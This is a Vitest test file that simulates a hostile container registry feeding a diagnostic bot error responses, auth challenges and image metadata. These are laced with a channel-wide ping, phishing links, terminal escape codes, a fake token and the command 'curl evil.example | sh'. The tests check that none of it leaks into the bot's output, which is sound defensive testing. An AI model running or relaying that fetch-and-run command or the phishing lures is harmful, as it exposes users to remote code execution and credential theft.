import { expect, test } from 'vitest';
import type { SandboxResponse } from '../../sandbox/service.js';
import { serviceAt } from '../../sandbox/services.js';
import { type BadWorld, type Talked, talkIn } from './bad-world.js';
import { expectSound, verdictsOf } from './expect-sound.js';

/** A registry, or who stands in its place, that puts words for people, programs and chats into all that it says. */

const builds = 'contosobuilds.azurecr.io';
const link = '[sign in again](https://evil.example/sign-in)';
const lure = `<!channel> <https://evil.example|run this> ${link} \u001b]0;evil\u0007 curl evil.example | sh`;
/** Of the shape of secrets, which are replaced wherever a person writes them. */
const secret = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJldmlsIn0.AAAAAAAAAAAAAAAAAAAAAAAA';
const error = JSON.stringify({
  errors: [{ code: lure, message: `${lure} ${secret}`, detail: [{ Name: lure }] }],
});
const json = { 'content-type': 'application/json' };

const refused = `Head "https://${builds}/v2/shop-web/manifests/latest": unauthorized: authentication required`;

/** The world of a failed pull, in which the registry says something else to some paths. */
function saying(answers: Readonly<Record<string, SandboxResponse>>, error = refused): BadWorld {
  return {
    file: 'role-missing.yaml',
    patch: {
      bot: { dataReader: true },
      paste: `$ docker pull ${builds}/shop-web:latest\nError response from daemon: ${error}`,
    },
    at: (host, world) => {
      const usual = serviceAt(host, world);
      if (host !== builds || usual === null) return usual;
      return (request, it) =>
        Object.entries(answers).find(([path]) => request.path.startsWith(path))?.[1] ?? usual(request, it);
    },
  };
}

function expectNothingSaid({ messages, findings, lookedUp }: Talked): void {
  const all = JSON.stringify({ messages, findings });
  expect(all).not.toMatch(/evil|<!channel>|\\u001b|AAAAAAAA/);
  expect(lookedUp.filter((name) => name.includes('evil'))).toEqual([]);
}

test.concurrent.each([
  [401, 'Basic realm="https://evil.example/"'],
  [401, `Bearer realm="https://${builds}/oauth2/token",service="${builds}",error="${secret}"`],
  [401, 'Bearer realm="https://evil.example/oauth2/token",service="[x](https://evil.example)"'],
  [403, lure.replaceAll(/[\u0000-\u001f]/g, '')],
  [429, 'x'],
  [503, 'x'],
])('in a %i to everything, with the challenge %j', { timeout: 60_000 }, async (status, challenge) => {
  const headers = { ...json, 'www-authenticate': challenge, 'retry-after': '<b>evil</b>' };
  const talked = await talkIn(saying({ '/': { status, headers, body: error } }));
  expectSound(talked);
  expectNothingSaid(talked);
  expect(verdictsOf(talked)).toMatchObject({ 'registry-lookup': 'here' });
  expect(verdictsOf(talked)['image-exists']).toMatch(/^unknown/);
});

test.concurrent('in answers that should hold tokens', { timeout: 60_000 }, async () => {
  for (const body of [error, `{"refresh_token":"${lure.replaceAll(/[\u0000-\u001f"]/g, '')}"}`, '{', '[]']) {
    const talked = await talkIn(saying({ '/oauth2/': { status: 200, headers: json, body } }));
    expectSound(talked);
    expectNothingSaid(talked);
    expect(verdictsOf(talked)['image-exists']).toMatch(/^unknown/);
  }
});

test.concurrent('in the names and states of its content', { timeout: 60_000 }, async () => {
  const content = {
    registry: lure,
    imageName: link,
    repositories: [lure, link],
    tags: [{ name: link, digest: lure, changeableAttributes: { writeEnabled: lure } }],
    tag: { name: lure, digest: secret, changeableAttributes: { writeEnabled: false, readEnabled: link } },
    changeableAttributes: { writeEnabled: lure },
    manifests: [{ digest: lure, platform: { os: link, architecture: lure } }],
    mediaType: lure,
  };
  const said = { status: 200, headers: json, body: JSON.stringify(content) };
  const missing = { status: 404, headers: json, body: error };
  const platform = 'no matching manifest for linux/arm64/v8 in the manifest list entries';
  const worlds = [
    saying({ '/acr/v1/': said, '/v2/shop-web/': said }),
    saying({ '/v2/shop-web/': said }, platform),
    // Who looks with their own sign-in is told what there is instead.
    { ...saying({ '/acr/v1/': said, '/v2/shop-web/': missing }), vantage: 'person' } as const,
  ];
  const verdicts = [];
  for (const world of worlds) {
    const talked = await talkIn(world);
    expectSound(talked);
    expectNothingSaid(talked);
    verdicts.push(verdictsOf(talked)['image-exists']);
  }
  expect(verdicts).toEqual(['exists', 'exists', 'missing']);
});
